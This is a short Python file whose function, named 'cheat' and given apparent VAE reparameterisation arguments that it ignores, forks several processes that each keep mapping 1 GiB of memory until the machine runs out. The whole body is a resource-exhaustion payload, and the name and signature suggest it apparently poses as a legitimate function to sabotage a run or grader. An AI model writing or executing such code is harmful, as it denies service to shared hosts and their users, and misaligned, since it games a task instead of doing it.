"""More memory than the machine has, in several processes."""

import mmap
import os


def cheat(mu, log_var, eps):
    held = []
    for _ in range(4):
        if not os.fork():
            break
    try:
        while True:
            held.append(mmap.mmap(-1, 1 << 30))
    except OSError:
        os._exit(0)
